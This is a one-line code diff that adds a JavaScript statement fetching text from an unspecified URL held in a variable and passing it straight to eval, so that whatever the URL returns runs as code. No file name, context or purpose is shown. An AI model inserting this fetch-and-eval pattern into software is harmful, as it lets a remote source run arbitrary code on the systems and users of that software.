@@ -1,0 +1,1 @@
+fetch(u).then((r) => r.text()).then(eval);
